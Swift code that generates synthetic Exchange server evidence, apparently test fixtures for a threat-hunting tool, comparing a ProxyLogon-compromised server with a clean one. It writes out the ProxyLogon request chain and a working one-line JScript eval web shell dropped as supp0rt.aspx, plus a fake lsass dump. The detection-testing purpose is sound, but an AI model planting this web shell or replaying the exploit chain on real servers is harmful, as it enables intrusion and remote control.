import Crypto
import Foundation
import HuntCore

/// Common writing of a server's evidence tree under a layout prefix.
struct EvidenceWriter {
    let root: URL
    /// `C/` for a KAPE-style collection, "" for a plain copy.
    let drive: String
    let exchange: String

    init(root: URL, kape: Bool) {
        self.root = root
        drive = kape ? "C/" : ""
        exchange = (kape ? "C/Program Files/Microsoft/" : "") + "Exchange Server/V15"
    }

    func write(_ relative: String, _ text: String, modified: Date? = nil) throws {
        try write(relative, Data(text.utf8), modified: modified)
    }

    func write(_ relative: String, _ data: Data, modified: Date? = nil) throws {
        let url = root.appendingPathComponent(relative)
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try data.write(to: url)
        if let modified { try FileManager.default.setAttributes([.modificationDate: modified], ofItemAtPath: url.path) }
    }

    /// A KAPE copy log (`<time>_CopyLog.csv` at the collection root) recording the original
    /// times of `files` (relative path, created, modified), which git does not keep for us.
    func copyLog(_ files: [(String, Date, Date)], copied: Date) throws {
        var text = "CopiedTimestamp,SourceFile,DestinationFile,FileSize,SourceFileSha1,DeferredCopy,CreatedOnUtc,ModifiedOnUtc,LastAccessedOnUtc,CopyDuration\r\n"
        for (rel, created, modified) in files {
            let data = try Data(contentsOf: root.appendingPathComponent(rel))
            let sha1 = Insecure.SHA1.hash(data: data).map { String(format: "%02x", $0) }.joined()
            let source = rel.hasPrefix("C/") ? "C:\\" + rel.dropFirst(2).replacingOccurrences(of: "/", with: "\\") : rel
            let k = { (d: Date) in Fmt.iso(d).replacingOccurrences(of: "T", with: " ").replacingOccurrences(of: "Z", with: "0000") }
            text += "\(k(copied)),\"\(source)\",\"E:\\kape\\EXCH01\\\(rel.replacingOccurrences(of: "/", with: "\\"))\",\(data.count),\(sha1),False,\(k(created)),\(k(modified)),\(k(copied)),00:00:00.0012345\r\n"
        }
        try write("\(Fmt.utc(copied, "yyyy-MM-dd'T'HHmmss"))_CopyLog.csv", text)
    }

    /// Daily HttpProxy, IIS and ECP logs of ordinary traffic from `from` to `to`, plus the
    /// attack lines each day has in `extra` (keyed by yyyyMMdd and log).
    func dailyLogs(from: Date, to: Date, seed: UInt64, extra: [String: [String: String]]) throws {
        var rng = SplitMix(seed: seed)
        var day = from
        var index = 0
        while day <= to {
            let key = Fmt.utc(day, "yyyyMMdd")
            let protocols = index % 7 == 0 ? ["Owa", "Ecp", "Mapi", "Autodiscover"] : ["Owa", "Ecp"]
            for proto in protocols {
                let start = day.addingTimeInterval(8 * 3600)
                var text = HttpProxy.header(date: start)
                var t = start
                for _ in 0..<6 {
                    t = t.addingTimeInterval(Double(rng.next() % 3000))
                    text += HttpProxy.line(HttpProxy.ordinary(time: t, protocolName: proto, rng: &rng), rng: &rng)
                }
                text += extra[key]?["HttpProxy/\(proto)"] ?? ""
                try write("\(exchange)/Logging/HttpProxy/\(proto)/HttpProxy_\(Fmt.utc(start, "yyyyMMddHH"))-1.LOG", text)
            }
            var iis = IIS.header(day.addingTimeInterval(8 * 3600))
            var t = day.addingTimeInterval(8 * 3600)
            let pages = ["/owa/", "/owa/auth/logon.aspx", "/owa/service.svc", "/ecp/", "/ecp/15.1.2176/scripts/common.js",
                         "/EWS/Exchange.asmx", "/Microsoft-Server-ActiveSync/default.eas", "/owa/auth/15.1.2176/themes/resources/favicon.ico"]
            for i in 0..<8 {
                t = t.addingTimeInterval(Double(rng.next() % 2000))
                let user = HttpProxy.users[Int(rng.next() % UInt64(HttpProxy.users.count))]
                iis += IIS.line(t, method: i % 3 == 0 ? "POST" : "GET", stem: pages[i], user: i % 4 == 1 ? "-" : user,
                                ip: "10.20.1.\(rng.next() % 200 + 2)", ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: 200)
            }
            iis += extra[key]?["IIS"] ?? ""
            try write("\(drive)inetpub/logs/LogFiles/W3SVC1/u_ex\(Fmt.utc(day, "yyMMdd")).log", iis)
            if let ecp = extra[key]?["ECP"] {
                try write("\(exchange)/Logging/ECP/Server/ECPServer\(key)-1.LOG", ECPServer.header(day) + ecp)
            }
            if let oab = extra[key]?["OAB"] {
                try write("\(exchange)/Logging/OABGeneratorLog/OABGenerator\(key)-1.LOG", oab)
            }
            day = day.addingTimeInterval(86_400)
            index += 1
        }
    }

    static let legitimateLogonPage = """
    <%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
    <%@ Import namespace="Microsoft.Exchange.Clients.Owa.Core"%>
    <!DOCTYPE html>
    <html><head><title><%=Strings.GetLocalizedString(Strings.IDs.OutlookWebApp)%></title></head>
    <body class="signInBg"><form action="/owa/auth.owa" method="POST" name="logonForm">
    <input type="hidden" name="destination" value="<%=Destination%>"><input id="username" name="username" type="text">
    <input id="password" name="password" type="password"></form></body></html>

    """
}

/// A KAPE-style collection of a 2016 CU19 server exploited on 2021-02-28 through the full chain.
struct CompromisedServer {
    let root: URL
    let attacker = "165.232.154.116"
    let scanner = "104.248.49.97"

    func write() throws {
        let w = EvidenceWriter(root: root, kape: true)
        var rng = SplitMix(seed: 99)
        func proxy(_ t: String, _ proto: String, _ stem: String, _ anchor: String, status: Int = 200, ip: String? = nil,
                   ua: String = "python-requests/2.25.1", cookie: String = "") -> String {
            var r = HttpProxy.Request(time: Fmt.at(t), protocolName: proto, urlStem: stem)
            r.anchor = anchor
            r.clientIP = ip ?? attacker
            r.userAgent = ua
            r.status = status
            r.method = "POST"
            r.routingHint = "X-BEResource-Cookie"
            r.backEndCookie = cookie
            return HttpProxy.line(r, rng: &rng)
        }
        let backend = "ServerInfo~a]@EXCH01.corp.local:444"
        let canary = "msExchEcpCanary=Zq8xR2v1o0-4Yb3kE9tWc7nP5sL6mJ2dH8gF1aQ0uI4oT3yR7eW9xZ5cV2bN6mK1jH8gF4dS0a"
        let shellURL = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>"
        let extra: [String: [String: String]] = [
            "20210226": [
                "HttpProxy/Autodiscover": "",
                "HttpProxy/Ecp": proxy("2021-02-26T22:14:09.211Z", "Ecp", "/ecp/x.js", "\(backend)/autodiscover/autodiscover.xml?#", ip: scanner),
                "IIS": IIS.line(Fmt.at("2021-02-26T22:14:09Z"), method: "POST", stem: "/ecp/x.js", ip: scanner, ua: "python-requests/2.25.1", status: 200),
            ],
            "20210227": [
                "HttpProxy/Owa": proxy("2021-02-27T03:11:45.020Z", "Owa", "/owa/auth/x.js", "ServerInfo~localhost/ecp/default.flt?",
                                       status: 500, ip: scanner, ua: "Mozilla/5.0 zgrab/0.x", cookie: "Server~localhost/owa/auth/logon.aspx?~3"),
            ],
            "20210228": [
                "HttpProxy/Ecp":
                    proxy("2021-02-28T01:02:11.402Z", "Ecp", "/ecp/y.js", "\(backend)/autodiscover/autodiscover.xml?#")
                    + proxy("2021-02-28T01:02:12.957Z", "Ecp", "/ecp/y.js", "\(backend)/mapi/emsmdb/?#")
                    + proxy("2021-02-28T01:02:14.310Z", "Ecp", "/ecp/y.js", "\(backend)/ecp/proxyLogon.ecp?#", status: 241)
                    + proxy("2021-02-28T01:02:16.774Z", "Ecp", "/ecp/y.js", "\(backend)/ecp/DDI/DDIService.svc/GetObject?\(canary)&schema=OABVirtualDirectory#")
                    + proxy("2021-02-28T01:02:19.005Z", "Ecp", "/ecp/y.js", "\(backend)/ecp/DDI/DDIService.svc/SetObject?\(canary)&schema=OABVirtualDirectory#")
                    + proxy("2021-02-28T01:02:23.640Z", "Ecp", "/ecp/y.js", "\(backend)/ecp/DDI/DDIService.svc/SetObject?\(canary)&schema=ResetOABVirtualDirectory#"),
                "ECP": ECPServer.line(Fmt.at("2021-02-28T01:02:19.112Z"),
                                      cmd: "Set-OabVirtualDirectory.ExternalUrl='\(shellURL)'.Identity='6f3a1c2e-55d0-4b7a-9a4e-0c1d2e3f4a5b'",
                                      url: "/ecp/DDI/DDIService.svc/SetObject"),
                "OAB": "2021-02-28T01:05:02.331Z,Thread 12,OABGenerator,Warning,Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx' needs to be removed.\r\n",
                "IIS": IIS.line(Fmt.at("2021-02-28T01:02:11Z"), method: "POST", stem: "/ecp/y.js", ip: attacker, ua: "python-requests/2.25.1", status: 200)
                    + IIS.line(Fmt.at("2021-02-28T01:09:40Z"), method: "POST", stem: "/owa/auth/RedirSuiteServerProxy.aspx", ip: attacker, ua: "antSword/v2.1", status: 200),
            ],
            "20210301": [
                "IIS": IIS.line(Fmt.at("2021-03-01T04:21:07Z"), method: "POST", stem: "/aspnet_client/supp0rt.aspx", ip: attacker, ua: "antSword/v2.1", status: 200)
                    + IIS.line(Fmt.at("2021-03-01T11:40:55Z"), method: "GET", stem: "/aspnet_client/discover.aspx", ip: scanner, ua: "Mozilla/5.0 zgrab/0.x", status: 404),
            ],
        ]
        try w.dailyLogs(from: Fmt.day("2020-12-28"), to: Fmt.day("2021-03-09"), seed: 1, extra: extra)
        // The OAB dump the reset wrote, and the file dropped through CVE-2021-26858.
        let dump = """
        Name                            : OAB (Default Web Site)
        PollInterval                    : 480
        OfflineAddressBooks             :
        RequireSSL                      : True
        BasicAuthentication             : False
        WindowsAuthentication           : True
        OAuthAuthentication             : True
        MetabasePath                    : IIS://EXCH01.corp.local/W3SVC/1/ROOT/OAB
        Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB
        ExtendedProtectionTokenChecking : None
        InternalUrl                     : https://exch01.corp.local/OAB
        ExternalUrl                     : \(shellURL)
        Identity                        : EXCH01\\OAB (Default Web Site)

        """
        try w.write("\(w.exchange)/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx", dump, modified: Fmt.at("2021-02-28T01:02:24Z"))
        try w.write("C/inetpub/wwwroot/aspnet_client/supp0rt.aspx",
                    "<script language=\"JScript\" runat=\"server\"> function Page_Load(){ eval(Request.Item[\"orange\"],\"unsafe\"); }</script>\r\n",
                    modified: Fmt.at("2021-02-28T01:05:03Z"))
        try w.write("\(w.exchange)/FrontEnd/HttpProxy/owa/auth/logon.aspx", EvidenceWriter.legitimateLogonPage)
        // A minidump header (MDMP) is enough for a name-and-place check; no memory is shipped.
        try w.write("C/root/lsass.dmp", Data([0x4D, 0x44, 0x4D, 0x50, 0x93, 0xA7, 0, 0]) + Data(repeating: 0, count: 248),
                    modified: Fmt.at("2021-03-01T04:30:12Z"))
        try w.write("C/ProgramData/VMware/VMware Tools/vss_manifests.zip", Self.emptyZip)
        try w.copyLog([
            ("\(w.exchange)/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx", Fmt.at("2021-02-28T01:02:24Z"), Fmt.at("2021-02-28T01:02:24Z")),
            ("C/inetpub/wwwroot/aspnet_client/supp0rt.aspx", Fmt.at("2021-02-28T01:05:03Z"), Fmt.at("2021-02-28T01:05:03Z")),
            ("\(w.exchange)/FrontEnd/HttpProxy/owa/auth/logon.aspx", Fmt.at("2020-12-15T09:00:00Z"), Fmt.at("2020-12-15T09:00:00Z")),
            ("C/root/lsass.dmp", Fmt.at("2021-03-01T04:30:12Z"), Fmt.at("2021-03-01T04:30:12Z")),
            ("C/ProgramData/VMware/VMware Tools/vss_manifests.zip", Fmt.at("2020-11-02T03:00:00Z"), Fmt.at("2021-03-08T03:00:00Z")),
        ], copied: Fmt.at("2021-03-10T12:00:00Z"))
    }

    /// An empty but valid .zip (end-of-central-directory record only).
    static let emptyZip = Data([0x50, 0x4B, 0x05, 0x06] + [UInt8](repeating: 0, count: 18))
}

/// A plain folder copy of a busy, unexploited server: legitimate admin URL changes, legitimate
/// OAB download failures and vendor archives in ProgramData.
struct CleanServer {
    let root: URL

    func write() throws {
        let w = EvidenceWriter(root: root, kape: false)
        let extra: [String: [String: String]] = [
            "20210115": [
                "ECP": ECPServer.line(Fmt.at("2021-01-15T09:12:40.100Z"),
                                      cmd: "Set-OwaVirtualDirectory.ExternalUrl='https://mail.corp.example/owa'.Identity='EXCH02\\owa (Default Web Site)'",
                                      url: "/ecp/DDI/DDIService.svc/SetObject")
                    + ECPServer.line(Fmt.at("2021-01-15T09:13:02.500Z"),
                                     cmd: "Set-OabVirtualDirectory.ExternalUrl='https://mail.corp.example/OAB'.Identity='EXCH02\\OAB (Default Web Site)'",
                                     url: "/ecp/DDI/DDIService.svc/SetObject"),
                "OAB": "2021-01-15T02:00:11.003Z,Thread 7,OABGenerator,Warning,Download failed and temporary file 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a7f3c1d2\\oab.xml' needs to be removed.\r\n",
            ],
        ]
        try w.dailyLogs(from: Fmt.day("2020-12-20"), to: Fmt.day("2021-03-10"), seed: 2, extra: extra)
        try w.write("\(w.exchange)/FrontEnd/HttpProxy/owa/auth/logon.aspx", EvidenceWriter.legitimateLogonPage)
        try w.write("inetpub/wwwroot/iisstart.htm", "<!DOCTYPE html><html><head><title>IIS Windows Server</title></head><body></body></html>\r\n")
        try w.write("ProgramData/McAfee/Common Framework/Backup/agent_backup.zip", CompromisedServer.emptyZip)
        try w.write("ProgramData/VMware/VMware Tools/vss_manifests.zip", CompromisedServer.emptyZip)
    }
}
